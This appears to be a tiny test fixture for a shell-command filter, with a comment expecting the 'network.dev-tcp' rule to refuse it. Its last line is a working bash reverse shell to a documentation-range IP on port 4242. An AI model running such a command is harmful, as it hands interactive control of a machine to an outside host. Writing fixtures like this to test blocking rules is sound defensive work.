# refused: network.dev-tcp 3
echo start
bash -i >& /dev/tcp/198.51.100.1/4242 0>&1
